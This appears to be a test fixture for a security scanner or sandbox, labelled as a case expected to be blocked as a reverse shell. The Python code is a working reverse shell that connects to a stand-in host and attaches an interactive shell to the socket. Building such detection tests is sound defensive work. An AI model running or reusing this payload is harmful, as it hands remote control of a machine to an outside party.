# expect: BLOCKED reverse_shell
import socket, subprocess
sock = socket.create_connection(("198.51.100.23", 5555))
subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())
